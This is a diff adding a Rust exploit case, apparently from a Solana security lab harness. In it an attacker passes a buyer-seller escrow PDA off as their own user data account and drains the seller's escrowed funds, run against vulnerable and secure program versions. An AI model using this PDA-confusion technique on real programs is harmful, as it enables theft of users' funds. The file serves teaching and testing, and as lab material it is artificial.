@@ -0,0 +1,109 @@
+//! An escrow the program keeps for the attacker and a seller, pending the
+//! seller's release, passes for the attacker's own user data account
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::to_vec;
+use lab_instructions::pda_issues::withdraw_ix;
+use lab_svm::{Signer, Svm, LAMPORTS_PER_SOL};
+use pda_issues::UserData;
+use pda_issues_secure::USER_DATA;
+use solana_common::pda::PdaSpec;
+use solana_program::entrypoint::ProcessInstruction;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{attacker, victim, vulnerability, Harness, Version};
+
+/// an escrow PDA naming the attacker as buyer is withdrawn from as their user
+/// data
+#[vulnerability(
+    id = "SOL-004",
+    category = "PdaValidation",
+    severity = "High",
+    difficulty = "Advanced",
+    rejection = "Validation(InvalidPda)",
+    prerequisite = "missing_owner_check",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: bump seed canonicalization",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/7-bump-seed-canonicalization",
+    ),
+    reference(
+        title = "Sealevel Attacks: PDA sharing",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/8-pda-sharing",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, pda_issues::process_instruction),
+        Version::Secure => attack(harness, pda_issues_secure::process_instruction),
+    }
+}
+
+/// The seller's goods payment, held until they release it
+const ESCROWED: u64 = 3 * LAMPORTS_PER_SOL;
+/// A buyer's escrow with a seller, another of the program's PDAs
+const ESCROW: PdaSpec<2> = PdaSpec::new(b"escrow", ["buyer", "seller"]);
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "pda_issues", program);
+    let attacker_key = fund(svm, &attacker());
+    let seller = victim().pubkey();
+
+    // Same layout as a user's data account: the buyer, and the amount
+    let (escrow, _bump) = ESCROW.find([&attacker_key, &seller], &program_id);
+    let escrow_data = UserData {
+        owner: attacker_key,
+        balance: ESCROWED,
+    };
+    program_account(svm, escrow, &program_id, to_vec(&escrow_data)?, ESCROWED);
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: escrow,
+            amount: ESCROWED,
+        },
+    )?;
+
+    let before = svm.lamports(&attacker_key);
+    svm.send(
+        &[withdraw_ix(
+            program_id,
+            attacker_key,
+            escrow,
+            attacker_key,
+            ESCROWED,
+        )],
+        &[&attacker()],
+    )?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= ESCROWED, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// A user withdraws from the data account at their own PDA
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => pda_issues::process_instruction,
+        Version::Secure => pda_issues_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "pda_issues", program);
+    let victim_key = fund(harness, &victim());
+    let (user_data, _bump) = USER_DATA.find([&victim_key], &program_id);
+    let data = UserData {
+        owner: victim_key,
+        balance: ESCROWED,
+    };
+    program_account(harness, user_data, &program_id, to_vec(&data)?, ESCROWED);
+
+    harness.send(
+        &[withdraw_ix(
+            program_id, victim_key, user_data, victim_key, ESCROWED,
+        )],
+        &[&victim()],
+    )?;
+    Ok(())
+}